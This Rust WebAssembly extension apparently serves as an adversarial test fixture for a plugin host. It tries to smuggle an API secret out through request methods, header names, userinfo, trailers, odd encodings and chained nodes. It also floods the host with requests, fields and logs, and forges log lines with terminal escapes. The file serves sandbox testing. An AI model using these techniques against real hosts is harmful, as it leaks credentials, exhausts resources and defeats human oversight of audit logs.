//! An attacker that tries to get a secret past the host's checks: hidden in
//! request parts a scrubber may skip (method, header names, userinfo,
//! trailers), in encodings it may not undo (partial or mixed-case percent
//! encoding, JSON `\u` escapes), split across two nodes, or behind floods and
//! hangs meant to exhaust the host or lose its audit trail. `config.mode`
//! picks the attack; see `run`.

wit_bindgen::generate!({
    path: "../../../wit",
    world: "narakim:extension/extension@0.1.0",
    generate_all,
});

mod http;

use http::{Request, header, kind, send, start, start_streaming, wait};
use narakim::extension0_1_0::log::{Level, log};
use narakim::extension0_1_0::secrets;
use narakim::extension0_1_0::types::{RequiredSecret, SecretField};
use serde_json::{Map, Value, json};
use std::fmt::Write;
use wasi::http::types::{Fields, Method};

struct Escape;

/// Text meant to forge host log lines and drive the operator's terminal.
const FORGE: &str = "ok\n[egress] POST evil.example: sent\n\x1b[2J\x1b]52;c;SGVsbG8=\x07\x1b]0;title\x07\u{202e}rtl\u{9b}31m";

/// The secret named by `config.secret` (default `API_TOKEN`).
fn secret(config: &Value) -> Result<String, String> {
    let name = config["secret"].as_str().unwrap_or("API_TOKEN");
    secrets::get(name).map_err(|e| format!("{e:?}"))
}

/// `config[key]` as a number, or `default`.
fn number(config: &Value, key: &str, default: u64) -> u64 {
    config[key].as_u64().unwrap_or(default)
}

/// `s` with every even-indexed byte percent-encoded, the case of the hex
/// alternating from one encoded byte to the next (`%4a`, then `%4A`, ...).
/// Odd-indexed bytes stay raw unless they are not URL-safe.
fn partial_percent(s: &str) -> String {
    let mut out = String::new();
    for (i, b) in s.bytes().enumerate() {
        let safe = b.is_ascii_alphanumeric() || b"-._~".contains(&b);
        if i % 2 == 1 && safe {
            out.push(b as char);
        } else if (i / 2) % 2 == 0 {
            write!(out, "%{b:02x}").unwrap();
        } else {
            write!(out, "%{b:02X}").unwrap();
        }
    }
    out
}

/// `s` as JSON string content, every `every`-th char (from the first)
/// written as `\uXXXX` (surrogate pairs past U+FFFF), lower-case hex for
/// even char indices and upper-case for odd ones. Other chars stay raw
/// unless JSON needs them escaped.
fn unicode_escaped(s: &str, every: usize) -> String {
    let mut out = String::new();
    for (i, c) in s.chars().enumerate() {
        if i % every == 0 || c == '"' || c == '\\' || c < ' ' {
            for unit in c.encode_utf16(&mut [0; 2]) {
                if i % 2 == 0 {
                    write!(out, "\\u{unit:04x}").unwrap();
                } else {
                    write!(out, "\\u{unit:04X}").unwrap();
                }
            }
        } else {
            out.push(c);
        }
    }
    out
}

/// A POST with a JSON body `{"k":"<escaped>"}`.
fn json_post(config: &Value, escaped: String) -> Result<String, String> {
    send(Request {
        method: Method::Post,
        headers: header("content-type", b"application/json")?,
        body: format!("{{\"k\":\"{escaped}\"}}").into_bytes(),
        ..Request::from_config(config)
    })
}

/// The header-value leak the host already blocks, made once so the audit
/// trail has something in it before the invocation misbehaves.
fn audited_request(config: &Value) -> Result<(), String> {
    let v = secret(config)?;
    let _ = header("x-k", v.as_bytes()).and_then(|headers| {
        send(Request {
            headers,
            ..Request::from_config(config)
        })
    });
    log(Level::Info, "before hang");
    println!("stdout before hang");
    Ok(())
}

/// `input.nodes.<config.from>.output.r`, whether the output arrives parsed
/// or as JSON text.
fn upstream_r(config: &Value, input: &str) -> Result<String, String> {
    let from = config["from"]
        .as_str()
        .ok_or("config.from is not a string")?;
    let input: Value = serde_json::from_str(input).map_err(|e| format!("input: {e}"))?;
    let output = &input["nodes"][from]["output"];
    let parsed: Value;
    let output = match output.as_str() {
        Some(text) => {
            parsed = serde_json::from_str(text).map_err(|e| format!("input output: {e}"))?;
            &parsed
        }
        None => output,
    };
    let r = output["r"]
        .as_str()
        .ok_or_else(|| format!("no string at input.nodes.{from}.output.r"))?;
    Ok(r.to_string())
}

/// Waits on every future; `{"ok": N, "errors": {kind: count}}`, counting
/// `early` failures (before a future existed) too.
fn tally(futures: Vec<Result<wasi::http::types::FutureIncomingResponse, String>>) -> Value {
    let mut ok = 0u64;
    let mut errors = Map::new();
    for result in futures {
        match result.and_then(wait) {
            Ok(_) => ok += 1,
            Err(e) => {
                let count = errors.entry(kind(&e)).or_insert(json!(0));
                *count = json!(count.as_u64().unwrap_or(0) + 1);
            }
        }
    }
    json!({ "ok": ok, "errors": errors })
}

impl Guest for Escape {
    fn describe() -> Description {
        Description {
            name: "escape".into(),
            version: "0.1.0".into(),
            description: "Tries to get a secret past the host's checks".into(),
            required_secrets: vec![RequiredSecret {
                name: "API_TOKEN".into(),
                hosts: vec!["api.example.test".into()],
            }],
            secret_fields: vec![SecretField {
                pointer: "/auth/secret".into(),
                hosts: vec!["hooks.example.test".into()],
            }],
            allowed_hosts: vec![
                "api.example.test".into(),
                "hooks.example.test".into(),
                "other.example.test".into(),
            ],
            host_fields: vec![],
        }
    }

    fn run(config: String, input: String) -> Result<String, String> {
        let cfg: Value = serde_json::from_str(&config).map_err(|e| format!("config: {e}"))?;
        let base = || Request::from_config(&cfg);
        match cfg["mode"].as_str().unwrap_or("") {
            // The secret as the request method.
            "method" => send(Request {
                method: Method::Other(secret(&cfg)?),
                ..base()
            }),
            // The secret as a header name.
            "header-name" => send(Request {
                headers: header(&secret(&cfg)?, b"1")?,
                ..base()
            }),
            // The secret as a header value (the baseline the host blocks).
            "header-value" => send(Request {
                headers: header("x-k", secret(&cfg)?.as_bytes())?,
                ..base()
            }),
            // The secret as the authority's userinfo.
            "userinfo" => {
                let req = base();
                send(Request {
                    authority: format!("{}@{}", secret(&cfg)?, req.authority),
                    ..req
                })
            }
            // The secret in the path, partly and mixed-case percent-encoded.
            "path-partial-percent" => send(Request {
                path: format!("/p/{}", partial_percent(&secret(&cfg)?)),
                ..base()
            }),
            // The secret in the query, partly and mixed-case percent-encoded.
            "query-partial-percent" => send(Request {
                path: format!("/q?k={}", partial_percent(&secret(&cfg)?)),
                ..base()
            }),
            // The secret in a JSON body, every char a mixed-case \u escape.
            "json-all-unicode" => json_post(&cfg, unicode_escaped(&secret(&cfg)?, 1)),
            // The secret in a JSON body, every third char a \u escape.
            "json-some-unicode" => json_post(&cfg, unicode_escaped(&secret(&cfg)?, 3)),
            // The secret in a trailer after an empty body.
            "trailers" => send(Request {
                method: Method::Post,
                trailers: Some(header("x-t", secret(&cfg)?.as_bytes())?),
                ..base()
            }),
            // The secret as the raw body.
            "body-raw" => send(Request {
                method: Method::Post,
                body: secret(&cfg)?.into_bytes(),
                ..base()
            }),
            // The secret reversed in the output, for a second node to undo.
            "reverse-output" => {
                let r: String = secret(&cfg)?.chars().rev().collect();
                Ok(json!({ "r": r }).to_string())
            }
            // Undoes `reverse-output` from the upstream node and sends it as a header.
            "unreverse-send" => {
                let v: String = upstream_r(&cfg, &input)?.chars().rev().collect();
                send(Request {
                    headers: header("x-k", v.as_bytes())?,
                    ..base()
                })
            }
            // Returns `config.emit` verbatim, as the output text.
            "emit" => Ok(cfg["emit"]
                .as_str()
                .ok_or("config.emit is not a string")?
                .to_string()),
            // The secret in the output, every char a \u escape.
            "emit-secret-escaped" => Ok(format!(
                "{{\"v\":\"{}\"}}",
                unicode_escaped(&secret(&cfg)?, 1)
            )),
            // An error whose cut at the output limit falls inside a multibyte char.
            "long-error" => {
                let len = number(&cfg, "len", 1_048_575) as usize;
                let tail = number(&cfg, "tail", 1) as usize;
                Err("a".repeat(len) + &"é".repeat(tail))
            }
            // Floods the host with refused requests to huge, disallowed host names.
            "refusal-flood" => {
                let host = "a".repeat(number(&cfg, "host_len", 60_000) as usize) + ".example";
                for _ in 0..number(&cfg, "count", 100_000) {
                    let _ = send(Request {
                        authority: host.clone(),
                        ..base()
                    });
                }
                Ok("{}".into())
            }
            // Leaks header fields into the host's resource table until it stops us.
            "fields-flood" => {
                let value = [b'a'; 1000];
                let mut made = 0u64;
                loop {
                    let fields = Fields::new();
                    if fields.append("x-f", &value).is_err() {
                        break;
                    }
                    std::mem::forget(fields);
                    made += 1;
                }
                Ok(json!({ "made": made }).to_string())
            }
            // Floods the log with empty messages.
            "log-flood" => {
                for _ in 0..number(&cfg, "count", 50_000_000) {
                    log(Level::Info, "");
                }
                Ok("{}".into())
            }
            // One request with as many 1000-byte headers as the host takes.
            "header-flood" => {
                let headers = Fields::new();
                let value = [b'a'; 1000];
                for _ in 0..number(&cfg, "count", 10_000_000) {
                    if headers.append("x-h", &value).is_err() {
                        break;
                    }
                }
                send(Request { headers, ..base() })
            }
            // A blocked request, output, then a busy loop.
            "audit-then-hang" => {
                audited_request(&cfg)?;
                loop {
                    std::hint::black_box(());
                }
            }
            // A blocked request, output, then an hour asleep.
            "audit-then-sleep" => {
                audited_request(&cfg)?;
                wasi::clocks::monotonic_clock::subscribe_duration(3_600_000_000_000).block();
                Ok("{}".into())
            }
            // A blocked request, output, then a trap.
            "audit-then-trap" => {
                audited_request(&cfg)?;
                std::process::abort()
            }
            // Forged host log lines and terminal escapes, everywhere.
            "forge" => {
                log(Level::Info, FORGE);
                println!("{FORGE}");
                eprintln!("{FORGE}");
                Ok(json!({ "t": FORGE }).to_string())
            }
            // Many requests in flight at once, then all waited on.
            "greedy" => {
                let futures = (0..number(&cfg, "count", 1500))
                    .map(|_| start(base()))
                    .collect();
                Ok(tally(futures).to_string())
            }
            // Many large bodies in flight at once.
            "big-bodies" => {
                let size = number(&cfg, "size", 8 * 1024 * 1024 - 1) as usize;
                let futures: Vec<_> = (0..number(&cfg, "count", 8))
                    .map(|_| {
                        start_streaming(
                            Request {
                                method: Method::Post,
                                ..base()
                            },
                            size,
                        )
                    })
                    .collect();
                let mut last = Ok(0);
                for future in futures {
                    let status = future.and_then(wait);
                    if last.is_ok() {
                        last = status;
                    }
                }
                last.map(|status| json!({ "status": status }).to_string())
            }
            // A plain GET: the well-behaved baseline.
            "ok-request" => send(base()),
            other => Err(format!("unknown mode {other:?}")),
        }
    }
}

export!(Escape);
